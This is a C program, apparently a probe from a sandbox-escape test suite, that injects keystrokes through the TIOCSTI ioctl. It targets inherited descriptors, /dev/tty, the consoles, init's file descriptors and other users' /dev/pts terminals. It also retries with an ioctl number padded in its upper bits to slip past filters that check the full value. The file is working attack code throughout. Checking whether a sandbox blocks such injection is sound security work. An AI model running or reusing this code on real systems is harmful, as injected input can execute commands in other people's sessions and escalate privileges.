// Types into whatever terminal it can get hold of: terminal WORDS. With "own" behind them: only into what it was started with.
#include "attack.h"
#include <dirent.h>
#include <sys/ioctl.h>

static const char *words;

static void type(const char *where, int file) {
  if (file < 0) return;
  // Also with a number that is one only in its lower half, which the kernel reads alone.
  unsigned long numbers[] = {TIOCSTI, TIOCSTI | 1UL << 32};
  for (int i = 0; i < 2; i++) {
    size_t typed = 0;
    for (const char *letter = words; *letter; letter++) typed += syscall(SYS_ioctl, file, numbers[i], letter) == 0;
    if (typed > 0) {
      through("typed", "%s", where);
      return;
    }
  }
  kept("typing", "%s: %s", where, strerrorname_np(errno));
}

int main(int count, char **values) {
  words = count > 1 ? values[1] : "x";
  alarm(10);
  for (int file = 0; file < 10; file++) type("what was open", file);
  if (count > 2 && strcmp(values[2], "own") == 0) return 0;
  static const char *paths[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ptmx", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) type(paths[i], open(paths[i], O_RDWR | O_NOCTTY));
  char path[300];
  for (int i = 0; i < 100; i++) {
    snprintf(path, sizeof path, "/dev/pts/%d", i);
    int file = open(path, O_RDWR | O_NOCTTY);
    if (file >= 0) through("a terminal of others", "%s", path);
    type(path, file);
  }
  printf("done\n");
  return 0;
}
